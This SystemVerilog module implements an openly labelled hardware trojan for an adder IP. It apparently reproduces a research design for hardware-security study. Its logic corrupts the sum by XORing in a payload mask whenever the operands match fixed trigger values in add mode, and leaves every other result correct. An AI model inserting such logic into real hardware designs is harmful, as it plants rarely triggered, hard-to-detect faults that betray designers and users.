// hw_trojan: combinational, event-triggered hardware trojan for the adder.
//
// It sits between the adder's sum and the output register of addsub_ip.
// Its trigger is a comparator on the operand inputs: when A == TRIG_A,
// B == TRIG_B and the core is in add mode, it XORs PAYLOAD into the sum, so
// the IP returns a wrong result for exactly that input pattern and a correct
// one for every other. It is purely combinational and has no state.
//
// That a combinational trojan changes the output on one input pattern
// follows the source design; the pattern and the payload mask are this
// design's own choice, as the source does not give them.
module hw_trojan #(
  parameter int unsigned       WIDTH    = 4,
  parameter logic [WIDTH-1:0]  TRIG_A   = WIDTH'('hA),
  parameter logic [WIDTH-1:0]  TRIG_B   = WIDTH'('h5),
  parameter logic [WIDTH-1:0]  PAYLOAD  = WIDTH'(1)
) (
  input  logic [WIDTH-1:0] a,          // operand A of the IP
  input  logic [WIDTH-1:0] b,          // operand B of the IP
  input  logic             add,        // 1 = add mode
  input  logic [WIDTH-1:0] sum_in,     // clean adder result
  output logic [WIDTH-1:0] sum_out,    // result after the trojan
  output logic             triggered   // trigger condition present
);

  always_comb begin
    triggered = (a == TRIG_A) && (b == TRIG_B) && add;
    sum_out   = triggered ? (sum_in ^ PAYLOAD) : sum_in;
  end

endmodule
